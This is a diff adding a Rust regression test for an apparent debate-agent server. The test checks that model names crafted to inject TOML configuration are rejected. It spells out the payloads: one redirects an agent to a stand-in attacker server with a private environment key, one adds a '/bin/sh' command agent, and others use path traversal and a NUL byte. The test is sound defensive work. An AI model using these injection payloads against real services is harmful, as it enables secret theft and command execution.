@@ -1166,3 +1166,84 @@ async fn a_run_whose_process_died_is_shown_interrupted_with_resume_as_the_way_on
     // SIGKILL reaches moot alone (nothing can catch it); its agents are ended here.
     let _ = Command::new("pkill").args(["-f", &a.to_string()]).status();
 }
+
+/// Issue 32 item 1: a model name is a plain name, never configuration. The reported payload
+/// (a model name that closes the TOML string and adds keys and an agent of its own) is
+/// refused with 400 through `/api/runs` and `/v1/chat/completions`, and no request, key or
+/// process reaches the attacker's server; a `cli` agent cannot be smuggled in either.
+#[tokio::test]
+async fn a_model_name_cannot_inject_configuration() {
+    let env = Env::new();
+    let (url, seen) = upstream("Final answer: 408");
+    let (attacker, stolen) = upstream("Final answer: 1");
+    let cfg = env.write(
+        "up.toml",
+        &format!(
+            "[debate]\nprotocol = \"som\"\nrounds = 1\nanswer = \"numeric\"\n\n[serve]\nupstream = {url:?}\n\n[security]\ncli_allowed_commands = [\"/bin/sh\"]\n\n[[agents]]\nid = \"x\"\nbackend = \"scripted\"\nresponses = [\"Final answer: 408\"]\n\n[[agents]]\nid = \"y\"\nbackend = \"scripted\"\nresponses = [\"Final answer: 408\"]\n"
+        ),
+    );
+    let cfg = cfg.display().to_string();
+    let s = common::moot_serve(
+        &env,
+        &["--config", &cfg],
+        &[("SERVER_PRIVATE_ENV", "private-value-0123456789")],
+    );
+    let marker = env.dir.path().join("pwned");
+    let payloads = [
+        format!("x\"\nbackend = \"openai\"\nmodel = \"m\"\nbase_url = \"{attacker}\"\napi_key_env = \"SERVER_PRIVATE_ENV\"\n[[agents]]\nid = \"y"),
+        format!("x\"\n[[agents]]\nid = \"z\"\nbackend = \"cli\"\ncommand = \"/bin/sh\"\nargs = [\"-c\", \"touch {}\"]\n[[agents]]\nid = \"w", marker.display()),
+        "qwen\u{0}".to_string(),
+        "a".repeat(300),
+        "../../etc".to_string(),
+        String::new(),
+    ];
+    for payload in &payloads {
+        let r = post_json(
+            format!("{}/api/runs", s.url),
+            &json!({"question": "What is 17 * 24?", "model": payload}),
+        )
+        .await;
+        assert_eq!(r.status(), 400, "{payload:?}");
+        let e: Value = r.json().await.unwrap();
+        assert!(
+            e["error"].as_str().unwrap().contains("model"),
+            "{payload:?}: {e}"
+        );
+        let r = post_json(
+            format!("{}/v1/chat/completions", s.url),
+            &json!({"model": format!("moot/som/{payload}"), "messages": [{"role": "user", "content": "What is 17 * 24?"}]}),
+        )
+        .await;
+        assert_eq!(r.status(), 400, "{payload:?}");
+    }
+    assert!(
+        stolen.lock().unwrap().is_empty(),
+        "the attacker's server was called"
+    );
+    assert!(seen.lock().unwrap().is_empty());
+    assert!(!marker.exists(), "an injected cli agent ran");
+    // A plain name of the upstream's still works, with the names models really have.
+    for name in [
+        "qwen2.5-coder:0.5b",
+        "meta-llama/Llama-3.1-8B-Instruct",
+        "gpt-4o-mini",
+    ] {
+        let r = post_json(
+            format!("{}/api/runs", s.url),
+            &json!({"question": "What is 17 * 24?", "model": name}),
+        )
+        .await;
+        assert_eq!(r.status(), 202, "{name}");
+        let run = r.json::<Value>().await.unwrap()["run_id"]
+            .as_str()
+            .unwrap()
+            .to_string();
+        events(&s, &run).await;
+    }
+    assert!(stolen.lock().unwrap().is_empty());
+    assert_eq!(
+        seen.lock().unwrap().len(),
+        3 * 4,
+        "three teams of two, two rounds each"
+    );
+}
